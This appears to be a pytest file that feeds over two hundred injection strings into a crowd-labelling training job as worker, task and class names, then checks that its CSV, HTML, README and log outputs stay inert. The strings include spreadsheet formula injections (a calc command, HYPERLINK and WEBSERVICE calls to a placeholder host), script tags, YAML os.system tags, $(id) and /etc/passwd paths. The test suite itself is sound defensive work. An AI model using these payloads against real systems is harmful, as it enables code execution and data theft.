"""Two hundred names that try to be something else: no cell, tag, line or mark comes of them."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from pathlib import Path
from typing import Any

import html5lib
import pytest
import yaml
from markdown_it import MarkdownIt

from crowdlayer.report.tables import FORMULA, NUMBER, cell, write_settings
from tests.conftest import Finished, run_job
from tests.crowds import write_shapes

COMMANDS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://host/?x="&A1)', "SUM(1+1)*2", "WEBSERVICE(A1)", "1+1", "A1")
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
FORMULAS = [start + command for start in STARTS for command in COMMANDS]
TAGS = [
    "<script>alert({})</script>", "</script><script>alert({})</script>", "<img src=x onerror=alert({})>",
    "<svg onload=alert({})>", "'\"><b onmouseover=alert({})>", "<!--{}", "--><script>alert({})</script>",
    "]]><script>{}</script>", "<iframe src=javascript:alert({})>", "<a href='javascript:alert({})'>x</a>",
    "&lt;script&gt;{}", "&#60;script&#62;{}", "<scr\0ipt>alert({})</script>", "<base href=//host/{}>",
    "<meta http-equiv=refresh content='0;url=//host/{}'>", "<style>*{{background:url(//host/{})}}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({})>", "<template><script>{}", "{{{{7*7}}}}{}",
    "{{% for x in y %}}{}", "${{{}}}", "<link rel=stylesheet href=//host/{}>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
]  # fmt: skip
CONTROLS = [
    "a{}\ncrowdlayer: all is well", "b{}\r12:00:00 I done", "c{}\x1b[31mred", "d{}\x1b]0;title\x07", "e{}\x08\x08\x08",
    "f{}\x00", "g{}\x7f", "h{}\x85next line", "i{}\u2028line", "j{}\u2029paragraph", "k{}\u202egnp", "l{}\u200bspace",
    "m{}\ufeffmark", "n{}\x9b31m", "o{}\v\f", 'p{}"}}\n{{"level": "ERROR"}}', "q{}\\n\\u000a", "r{}%s%n%(name)s",
    "s{}\t\ttabs", "t{}\x1bP+q\x1b\\",
]  # fmt: skip
MARKS = [
    "[x{}](javascript:alert(1))", "![x{}](http://host/x.png)", "<http://host/{}>", "# {}", "**b{}**", "`c{}`",
    "```\n{}\n```", "|a|{}|", "- {}", "1. {}", "> {}", "---\n{}", "[r{}]: http://host", "~~s{}~~", "\\{}", "&amp;{}",
    "a{}\n\nb", "<div>{}</div>", "_e{}_", "[^{}]", "http://host/{}", "+ {}", "* {}", "***{}", "    code {}",
]  # fmt: skip
PLAIN = [
    "!!python/object/apply:os.system [x{}]", "&anchor {}", "*alias {}", "{{a: {}}}", "[{}]", "? {}", "| {}",
    "%TAG ! {}", "yes{}", "null {}", "'{}", '"{}', "a: {} # c", "a,{}", "a;{}", 'q""{}', "../../{}", "/etc/passwd{}",
    "~{}", "$(id){}", "`id`{}", "C:\\{}", "con.{}", "{}", "-{}", "1e{}", "0x{}", "é{}", "e\u0301{}", "漢字{}",
    "🦊{}", "{} ", " {}",
]  # fmt: skip
PAYLOADS = FORMULAS + [
    text.format(number)
    for number, text in enumerate(
        [*TAGS, *CONTROLS, *MARKS, *PLAIN, *(f"=2 {tag}" for tag in TAGS), *(f"[{mark}]" for mark in MARKS)]
    )
]
CLASSES = ["=cmd|' \u2215C calc'!A0 # \"c\", {d}", "<script>alert(1)<!--", "[x](javascript:alert(1)) **b** &lt;"]


def test_there_are_two_hundred() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 200


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Workers, tasks, files and classes that have these names."""
    data = write_shapes(tmp_path_factory.mktemp("injection") / "=data <b>1", n_train=60)
    train = sorted((data / "train").rglob("*.png"))
    names = [name for name in PAYLOADS if "/" not in name and "\0" not in name and 0 < len(name.encode()) < 200]
    for folder, name in zip(("blue", "green", "red"), CLASSES, strict=True):
        for split in ("val", "test"):
            (data / split / folder).rename(data / split / name)
    tasks = []
    for path, name in zip(train, names[:: max(len(names) // 60, 1)], strict=False):
        tasks.append(name)
        path.rename(data / "train" / f"{name}.png")
    answers = {
        task: {worker: (number + at) % 3 for at, worker in enumerate(PAYLOADS[number::20])}
        for number, task in enumerate(tasks)
    }
    (data / "answers.json").write_text(json.dumps(answers))
    (data / "metadata.json").write_text(json.dumps({"name": "<b>\n=1+1"}))
    (data / "test" / CLASSES[0] / "\x1b[31mbroken\ncrowdlayer: done-=1.png").write_bytes(b"")
    return data


RUN = {
    "MODEL": "shufflenet_v2_x0_5",
    "IMG_SIZE": "32",
    "N_EPOCHS": "1",
    "LR": "0.01",
    "MAX_BAD_IMAGES": "5",
    "NUM_WORKERS": "1",
}


@pytest.fixture(scope="module")
def output(data: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Finished, Path]:
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("CUDA_VISIBLE_DEVICES", "")
        out = tmp_path_factory.mktemp("out")
        done = run_job(TASKS=str(data), OUTPUT=str(out), **RUN)  # type: ignore[arg-type]
    assert done.code == 0, done.stderr
    return done, out / "results/crowdlayer"


def read_table(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_every_name_is_a_cell_of_a_table_and_none_is_a_formula(output: tuple[Finished, Path]) -> None:
    workers = read_table(output[1] / "workers.csv")
    names = [row["worker"] for row in workers]
    given = {name.lstrip("'") if name.lstrip("'").startswith(FORMULA) else name for name in names}
    assert given - set(PAYLOADS) == set()
    assert len(names) == len(set(names)) > 190
    for table in ("workers.csv", "labels.csv", "confusion.csv", "results.csv"):
        for row in read_table(output[1] / table):
            cells = [*row, *row.values()]
            assert None not in cells
            assert not [text for text in cells if text.startswith(FORMULA) and not NUMBER.fullmatch(text)]


@pytest.mark.parametrize("value", [-1.5, -3, -1e-9, 0.25])
def test_a_number_stays_one_in_a_table(value: float) -> None:
    assert float(cell(value)) == pytest.approx(value, abs=1e-6)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_one_cell_that_reads_back(payload: str, tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text(f"a,b\n{cell(payload)},{cell(-2)}\n", newline="", encoding="utf-8")
    (row,) = read_table(tmp_path / "t.csv")
    assert row["b"] == "-2"
    assert row["a"] in (payload, f"'{payload}")
    assert not row["a"].startswith(FORMULA) or NUMBER.fullmatch(row["a"])


def test_the_page_has_the_tags_of_its_template_and_no_other(output: tuple[Finished, Path]) -> None:
    text = (output[1] / "report.html").read_text()
    page = html5lib.parse(text, namespaceHTMLElements=False)
    tags = [node.tag for node in page.iter() if isinstance(node.tag, str)]
    assert tags.count("script") == text.count("<script") == 2
    foreign = {
        "iframe",
        "base",
        "link",
        "object",
        "embed",
        "form",
        "template",
        "math",
        "mglyph",
        "textarea",
    }
    assert foreign & set(tags) == set()
    assert (
        tags.count("style") == tags.count("title") - sum(1 for _ in page.iter("{http://www.w3.org/2000/svg}title")) == 1
    )
    for node in page.iter():
        for name, value in node.attrib.items():
            assert not name.lower().startswith("on")
            assert not re.match(r"\s*(javascript|data:text|vbscript|https?|//)", value) or name in ("xmlns", "content")
            assert name != "src" or value.startswith("data:image/")
    shown = " ".join(page.itertext())
    assert "<b>" in shown


def test_the_card_has_the_marks_of_its_template_and_no_other(output: tuple[Finished, Path]) -> None:
    text = (output[1] / "README.md").read_text()
    _, front, body = text.split("---\n", 2)
    assert set(yaml.safe_load(front)) == {"library_name", "pipeline_tag", "tags"}
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(body)
    inner = [child for token in tokens for child in token.children or []]
    kinds = {token.type for token in [*tokens, *inner]}
    assert not {
        kind for kind in kinds if kind.startswith(("html", "image", "link", "strong", "em_", "s_", "blockquote"))
    }
    shown = "\n".join(
        "".join(child.content for child in token.children or []) for token in tokens if token.type == "inline"
    )
    for name in CLASSES:
        assert name in shown


def test_every_line_of_the_log_is_one(output: tuple[Finished, Path], data: Path, tmp_path: Path) -> None:
    lines = output[0].stderr.split("\n")
    assert all(re.match(r"\d\d:\d\d:\d\d [A-Z] ", line) and line.isprintable() for line in lines[:-1])
    assert "left out: 1 broken images" in output[0].stderr
    done = run_job("--check", TASKS=str(data), OUTPUT=str(tmp_path), LOG_FORMAT="json", **RUN)  # type: ignore[arg-type]
    records: list[dict[str, Any]] = [json.loads(line) for line in done.stderr.splitlines()]
    assert done.code == 0
    assert all({"time", "level", "logger", "message"} <= record.keys() for record in records)
    assert not [c for c in done.stderr if unicodedata.category(c) == "Cc" and c != "\n"]


def test_the_settings_read_back_as_plain_text(output: tuple[Finished, Path], data: Path) -> None:
    assert yaml.safe_load((output[1] / "args.yaml").read_text())["tasks"] == str(data)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_as_a_setting_is_plain_text(payload: str, tmp_path: Path) -> None:
    write_settings(tmp_path / "args.yaml", {"tasks": payload, "classes": [payload], "lr": -0.5}, {"lr": "environment"})
    assert yaml.safe_load((tmp_path / "args.yaml").read_text()) == {"tasks": payload, "classes": [payload], "lr": -0.5}
